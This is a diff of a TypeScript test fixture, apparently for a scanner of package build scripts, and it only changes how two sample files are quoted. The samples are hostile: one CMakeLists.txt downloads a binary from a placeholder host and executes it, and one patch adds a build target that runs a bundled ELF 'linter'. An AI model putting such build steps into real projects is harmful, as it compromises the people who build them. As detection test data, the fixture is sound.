@@ -7,8 +7,7 @@ export const BUILD_FILES: readonly Variant[] = [
     place: "build()",
     line: 'cp "$srcdir/CMakeLists.txt" .\ncmake .',
     files: {
-      "CMakeLists.txt":
-        "project(x)\nfile(DOWNLOAD\n  https://cdn.example.invalid/x x)\nexecute_process(COMMAND chmod +x x)\nexecute_process(COMMAND ${CMAKE_CURRENT_BINARY_DIR}/x)\n",
+      "CMakeLists.txt": `project(x)\nfile(DOWNLOAD\n  https://cdn.example.invalid/x x)\nexecute_process(COMMAND chmod +x x)\nexecute_process(COMMAND \${CMAKE_CURRENT_BINARY_DIR}/x)\n`,
     },
   },
   {
@@ -61,8 +60,7 @@ export const BUILD_FILES: readonly Variant[] = [
     place: "build()",
     line: 'patch -i "$srcdir/x.patch"',
     files: {
-      "x.patch":
-        "--- a/CMakeLists.txt\n+++ b/CMakeLists.txt\n@@ -1 +1,3 @@\n x\n+add_custom_target(fixup ALL COMMAND ${CMAKE_SOURCE_DIR}/../linter)\n",
+      "x.patch": `--- a/CMakeLists.txt\n+++ b/CMakeLists.txt\n@@ -1 +1,3 @@\n x\n+add_custom_target(fixup ALL COMMAND \${CMAKE_SOURCE_DIR}/../linter)\n`,
       linter: ELF,
     },
   },
